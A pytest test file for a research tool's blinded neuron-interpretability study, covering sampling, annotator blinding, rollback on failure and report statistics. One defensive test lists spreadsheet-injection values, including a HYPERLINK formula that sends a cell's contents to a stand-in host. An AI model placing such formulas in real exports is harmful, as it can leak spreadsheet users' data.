"""The blinded study: sampling, what annotators can see, and the unblinded statistics."""

import json
import math
import sqlite3

import numpy as np
import pytest
import scipy.stats
from sklearn.metrics import cohen_kappa_score

from solulab.errors import SolulabError
from solulab.neurons.store import NeuronStore
from solulab.study.create import CHECKS_PER_NEURON, SNIPPETS, create_study
from solulab.study.db import Transaction, connect
from solulab.study.report import summarise, write_report

PER_MODEL = 12


@pytest.fixture
def study(collected_runs, tmp_path):
    models = {"small-gelu": collected_runs / "gelu", "solu": collected_runs / "solu_ln"}
    return create_study(models, tmp_path / "study.sqlite", PER_MODEL, seed=3,
                        annotators=["ann", "bob"])


def test_sampling_is_uniform_without_replacement_and_orders_differ(study):
    conn = sqlite3.connect(study.path)
    rows = conn.execute("SELECT model, layer, neuron FROM secrets").fetchall()
    assert len(rows) == 2 * PER_MODEL and len(set(rows)) == len(rows)
    assert {m for m, _, _ in rows} == {"small-gelu", "solu"}
    orders = {a: [r[0] for r in conn.execute(
        "SELECT item_id FROM orders WHERE annotator = ? ORDER BY position", (a,))]
        for a in ("ann", "bob")}
    assert sorted(orders["ann"]) == sorted(orders["bob"]) and orders["ann"] != orders["bob"]


def test_sampling_covers_neurons_uniformly_over_many_seeds(collected_runs, tmp_path):
    counts = np.zeros(64)
    for seed in range(30):
        links = create_study({"m": collected_runs / "gelu"}, tmp_path / f"s{seed}.sqlite", 16,
                             seed=seed)
        for (neuron,) in sqlite3.connect(links.path).execute("SELECT neuron FROM secrets"):
            counts[neuron] += 1
    # 480 draws over 64 neurons: a chi-square test of uniformity should not reject.
    assert scipy.stats.chisquare(counts).pvalue > 0.001


def test_what_an_annotator_sees_does_not_depend_on_the_model(study, collected_runs):
    conn = sqlite3.connect(study.path)
    payloads = {model: json.loads(payload) for model, payload in conn.execute(
        "SELECT s.model, i.payload FROM items i JOIN secrets s ON s.item_id = i.id")}
    shapes = set()
    for payload in payloads.values():
        assert len(payload["snippets"]) == SNIPPETS
        for snip in payload["snippets"]:
            assert set(snip) == {"tokens", "acts", "fire", "start"}
            assert all(0.0 <= a <= 1.0 and round(a, 2) == a for a in snip["acts"])
        shapes.add(tuple(sorted(payload)))
    assert len(shapes) == 1
    text = " ".join(p for (p,) in conn.execute("SELECT payload FROM items UNION ALL "
                                                "SELECT payload FROM checks"))
    for secret in ("small-gelu", "solu", "gelu", str(collected_runs), "layer", "neuron"):
        assert secret not in text
    ids = [i for (i,) in conn.execute("SELECT id FROM items")]
    assert all(len(i) == 24 for i in ids)  # opaque ids of one length


def test_every_neuron_gets_as_many_checks_and_each_token_is_asked_once(study, collected_runs):
    conn = sqlite3.connect(study.path)
    per_item = dict(conn.execute("SELECT item_id, COUNT(*) FROM checks GROUP BY item_id"))
    assert len(per_item) == 2 * PER_MODEL and set(per_item.values()) == {CHECKS_PER_NEURON}
    store = NeuronStore.open(collected_runs / "solu_ln" / "neurons")
    rows = conn.execute("SELECT c.id, x.point, x.interval_index, s.layer, s.neuron FROM checks c "
                        "JOIN check_secrets x ON x.check_id = c.id JOIN secrets s ON "
                        "s.item_id = c.item_id WHERE s.model = 'solu'").fetchall()
    assert {r[1] for r in rows} == {"mid", "post"}
    by_neuron = {}
    for _, point, index, layer, neuron in rows:
        by_neuron.setdefault((layer, neuron, point), set()).add(index)
    for (layer, neuron, point), indices in by_neuron.items():
        nonempty = [i for i, (_, ex) in enumerate(store.interval_examples(layer, neuron, point))
                    if ex]
        assert sorted(indices) == nonempty  # every interval of both points is asked about
    # A token drawn at both points is one check with two sources, never two checks.
    windows = {}
    for item_id, payload in conn.execute("SELECT item_id, payload FROM checks"):
        snip = json.loads(payload)
        key = (item_id, tuple(snip["tokens"]), snip["fire"])
        windows[key] = windows.get(key, 0) + 1
    assert max(windows.values()) == 1
    merged = conn.execute("SELECT COUNT(*) FROM (SELECT check_id FROM check_secrets GROUP BY "
                          "check_id HAVING COUNT(*) = 2)").fetchone()[0]
    assert merged > 0


def test_snippets_show_the_stores_whole_window(study, collected_runs):
    store = NeuronStore.open(collected_runs / "solu_ln" / "neurons")
    before, after = store.meta["window_before"], store.meta["window_after"]
    conn = sqlite3.connect(study.path)
    snippets = [s for (p,) in conn.execute("SELECT payload FROM items")
                for s in json.loads(p)["snippets"] if s["tokens"]]
    assert max(s["fire"] for s in snippets) == before
    assert all(len(s["tokens"]) - s["fire"] - 1 <= after for s in snippets)
    assert all(s["start"] == (s["fire"] < before) for s in snippets)


def test_orders_and_ids_cannot_be_recomputed_from_the_seed(collected_runs, tmp_path):
    models = {"g": collected_runs / "gelu", "s": collected_runs / "solu_ln"}
    made = [create_study(models, tmp_path / f"{i}.sqlite", 10, seed=0, annotators=["a", "b"])
            for i in range(2)]
    conns = [sqlite3.connect(m.path) for m in made]
    neurons = [conn.execute("SELECT model, layer, neuron FROM secrets ORDER BY 1, 2, 3"
                            ).fetchall() for conn in conns]
    assert neurons[0] == neurons[1]  # the seed fixes the sample, for reproducibility
    orders = [[tuple(r) for r in conn.execute(
        "SELECT o.annotator, o.position, o.alias, s.model, s.layer, s.neuron FROM orders o "
        "JOIN secrets s ON s.item_id = o.item_id ORDER BY 1, 2")] for conn in conns]
    assert [r[3:] for r in orders[0]] != [r[3:] for r in orders[1]]
    assert not {r[2] for r in orders[0]} & {r[2] for r in orders[1]}
    a, b = ({r[2] for r in orders[0] if r[0] == name} for name in ("a", "b"))
    assert not a & b  # each annotator has ids of their own
    seeds = {conn.execute("SELECT value FROM study WHERE key = 'seed'").fetchone()[0]
             for conn in [sqlite3.connect(create_study(models, tmp_path / f"r{i}.sqlite", 2).path)
                          for i in range(2)]}
    assert len(seeds) == 2  # without --seed, a fresh one each time


def test_a_study_that_fails_part_way_leaves_nothing(collected_runs, tmp_path, monkeypatch):
    import solulab.study.create as create

    calls = []

    def failing(*args):
        calls.append(1)
        if len(calls) == 5:
            raise OSError("disk full")
        return {"snippets": []}

    monkeypatch.setattr(create, "item_payload", failing)
    out = tmp_path / "s.sqlite"
    with pytest.raises(OSError, match="disk full"):
        create_study({"m": collected_runs / "gelu"}, out, 8)
    assert list(tmp_path.iterdir()) == []
    monkeypatch.undo()
    assert create_study({"m": collected_runs / "gelu"}, out, 8).path == out


def test_bad_creation_requests_are_refused(collected_runs, tmp_path, study):
    with pytest.raises(SolulabError, match="exists"):
        create_study({"m": collected_runs / "gelu"}, study.path)
    with pytest.raises(SolulabError, match="fewer than the 65 that --neurons-per-model 65"):
        create_study({"m": collected_runs / "gelu"}, tmp_path / "x.sqlite", 65)
    with pytest.raises(SolulabError, match="distinct"):
        create_study({"m": collected_runs / "gelu"}, tmp_path / "y.sqlite", 2,
                     annotators=["a", "a"])


def rate_all(path, rng_seed=0, p_interpretable=None):
    """Rate every item for every annotator with seeded labels, and finish; returns the
    labels."""
    rng = np.random.default_rng(rng_seed)
    conn = connect(path)
    rows = conn.execute("SELECT o.annotator, o.item_id, s.model FROM orders o JOIN secrets s "
                        "ON s.item_id = o.item_id").fetchall()
    labels = {}
    with Transaction(conn):
        for annotator, item, model in rows:
            p = (p_interpretable or {}).get(model, 0.5)
            label = "interpretable" if rng.random() < p else "not_interpretable"
            labels[(annotator, item)] = label
            conn.execute("INSERT INTO ratings (annotator, item_id, label, hypothesis) VALUES "
                         "(?, ?, ?, 'digits')", (annotator, item, label))
        conn.execute("UPDATE annotators SET finished_at = datetime('now')")
    conn.close()
    return labels, rows


def test_report_statistics_match_scipy_and_sklearn(study, tmp_path):
    labels, rows = rate_all(study.path, p_interpretable={"small-gelu": 0.2, "solu": 0.8})
    summary = summarise(study.path)
    counts = {}
    for (annotator, item), label in labels.items():
        model = next(m for a, i, m in rows if i == item)
        c = counts.setdefault(model, [0, 0])
        c[0] += label == "interpretable"
        c[1] += 1
    for model, (k, n) in counts.items():
        m = summary["models"][model]
        assert (m["interpretable"], m["rated"]) == (k, n)
        low, high = scipy.stats.binomtest(k, n).proportion_ci(method="wilson")
        assert (m["wilson_low"], m["wilson_high"]) == pytest.approx((low, high))
    (pair,) = summary["fisher"]
    a, b = counts[pair["a"]], counts[pair["b"]]
    expected = scipy.stats.fisher_exact([[a[0], a[1] - a[0]], [b[0], b[1] - b[0]]])
    assert pair["p_value"] == pytest.approx(expected.pvalue)
    for annotator in ("ann", "bob"):  # each alone: one rating per neuron
        mine = {}
        for (who, item), label in labels.items():
            if who == annotator:
                c = mine.setdefault(next(m for _, i, m in rows if i == item), [0, 0])
                c[0] += label == "interpretable"
                c[1] += 1
        (alone,) = summary["fisher_per_annotator"][annotator]
        a, b = mine[alone["a"]], mine[alone["b"]]
        expected = scipy.stats.fisher_exact([[a[0], a[1] - a[0]], [b[0], b[1] - b[0]]])
        assert alone["p_value"] == pytest.approx(expected.pvalue)
    items = sorted({i for _, i in labels})
    kappa = cohen_kappa_score([labels[("ann", i)] for i in items],
                              [labels[("bob", i)] for i in items])
    assert summary["agreement"]["kind"] == "cohen"
    assert summary["agreement"]["kappa"] == pytest.approx(kappa)
    assert summary["agreement"]["shared_neurons"] == len(items)

    out, _ = write_report(study.path, tmp_path / "report")
    csv_lines = (out / "ratings.csv").read_text().splitlines()
    assert len(csv_lines) == 1 + len(labels) and csv_lines[0].startswith("annotator,model")
    assert (out / "fig4.png").read_bytes()[:4] == b"\x89PNG"
    saved = json.loads((out / "summary.json").read_text())
    assert saved["models"]["solu"]["rated"] == counts["solu"][1]


def test_figure_9_counts_inconsistent_labels_per_point_and_interval(study, tmp_path):
    rate_all(study.path, p_interpretable={"small-gelu": 1.0, "solu": 1.0})
    conn = connect(study.path)
    checks = conn.execute("SELECT check_id, group_concat(point) FROM check_secrets "
                          "GROUP BY check_id").fetchall()
    with Transaction(conn):
        for check_id, points in checks:  # examples drawn only after the LN inconsistent
            conn.execute("INSERT INTO check_labels (annotator, check_id, consistent) VALUES "
                         "('ann', ?, ?)", (check_id, int("mid" in points.split(","))))
    n_sources = conn.execute("SELECT COUNT(*) FROM check_secrets").fetchone()[0]
    conn.close()
    summary = summarise(study.path)
    for row in summary["consistency"]:
        if row["point"] == "mid":
            assert row["inconsistent"] == 0
    solu_post = [r for r in summary["consistency"] if r["act_fn"] == "solu_ln" and
                 r["point"] == "post"]
    assert 0 < sum(r["inconsistent"] for r in solu_post) < sum(r["labelled"] for r in solu_post)
    assert sum(r["labelled"] for r in summary["consistency"]) == n_sources
    out, _ = write_report(study.path, tmp_path / "r")
    assert (out / "fig9.png").is_file()
    assert not math.isnan(summary["models"]["solu"]["fraction"])


def test_ratings_csv_holds_no_live_spreadsheet_formulas(study, tmp_path):
    import csv

    conn = connect(study.path)
    items = [i for (i,) in conn.execute("SELECT item_id FROM orders WHERE annotator = 'ann'")]
    hostile = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
               "\tcmd", "plain -minus"]
    with Transaction(conn):
        for item, text in zip(items, hostile):
            conn.execute("INSERT INTO ratings (annotator, item_id, label, hypothesis) VALUES "
                         "('ann', ?, 'interpretable', ?)", (item, text))
    conn.close()
    out, _ = write_report(study.path, tmp_path / "report", unfinished=True)
    with open(out / "ratings.csv", newline="") as f:
        cells = [row["hypothesis"] for row in csv.DictReader(f)]
    assert sorted(cells) == sorted(["'" + t for t in hostile[:5]] + ["plain -minus"])


def test_excluded_studies_neurons_are_not_drawn_again(collected_runs, tmp_path):
    first = create_study({"m": collected_runs / "gelu"}, tmp_path / "a.sqlite", 40)
    second = create_study({"m": collected_runs / "gelu"}, tmp_path / "b.sqlite", 24,
                          exclude=[first.path])
    drawn = [set(sqlite3.connect(s.path).execute("SELECT layer, neuron FROM secrets"))
             for s in (first, second)]
    assert len(drawn[0]) == 40 and len(drawn[1]) == 24 and not drawn[0] & drawn[1]
    with pytest.raises(SolulabError, match="not counting excluded"):
        create_study({"m": collected_runs / "gelu"}, tmp_path / "c.sqlite", 25,
                     exclude=[first.path])


def test_layers_limits_the_draw_to_those_layers(small_corpus, tmp_path):
    import shutil

    from solulab import ModelConfig, Transformer
    from solulab.neurons.collect import collect
    from solulab.neurons.settings import StoreSettings

    run = tmp_path / "deep"
    model = Transformer(ModelConfig(n_layers=3, d_model=16, n_heads=2, d_mlp=32, n_ctx=32,
                                    d_vocab=300, act_fn="gelu", init_std=0.3))
    model.save_pretrained(run)
    shutil.copy(small_corpus / "tokenizer.json", run / "tokenizer.json")
    (run / "run.json").write_text(json.dumps({"corpus": str(small_corpus)}))
    collect(run, n_tokens=1024, settings=StoreSettings(k=24), progress=False)
    made = create_study({"m": run}, tmp_path / "a.sqlite", 30, layers=[2, 1])
    drawn = list(sqlite3.connect(made.path).execute("SELECT layer, neuron FROM secrets"))
    assert len(set(drawn)) == 30
    assert sorted(layer for layer, _ in drawn) == [1] * 15 + [2] * 15
    for layers in ([3], []):
        with pytest.raises(SolulabError, match="not in its neuron store"):
            create_study({"m": run}, tmp_path / f"b{layers}.sqlite", 4, layers=layers)
    assert not list(tmp_path.glob("b*"))


def test_stratified_sampling_takes_each_layer_equally_and_the_remainder_at_random():
    import random
    from collections import Counter

    from solulab.study.create import stratified

    by_layer = {layer: [(layer, n) for n in range(10)] for layer in range(3)}
    extra = Counter()
    within = Counter()
    for seed in range(300):
        picked = stratified(random.Random(seed), by_layer, 7)
        assert len(set(picked)) == 7
        per_layer = Counter(layer for layer, _ in picked)
        assert sorted(per_layer.values()) == [2, 2, 3]
        extra[max(per_layer, key=per_layer.get)] += 1
        within.update(n for layer, n in picked if layer == 0)
    # Which layer gives the extra neuron, and which neurons a layer gives, are uniform.
    assert scipy.stats.chisquare(list(extra.values())).pvalue > 0.001
    assert scipy.stats.chisquare([within[n] for n in range(10)]).pvalue > 0.001
    # One layer: exactly the uniform draw of before (old seeds redraw the same neurons).
    assert stratified(random.Random(5), {0: by_layer[0]}, 4) == random.Random(5).sample(
        by_layer[0], 4)
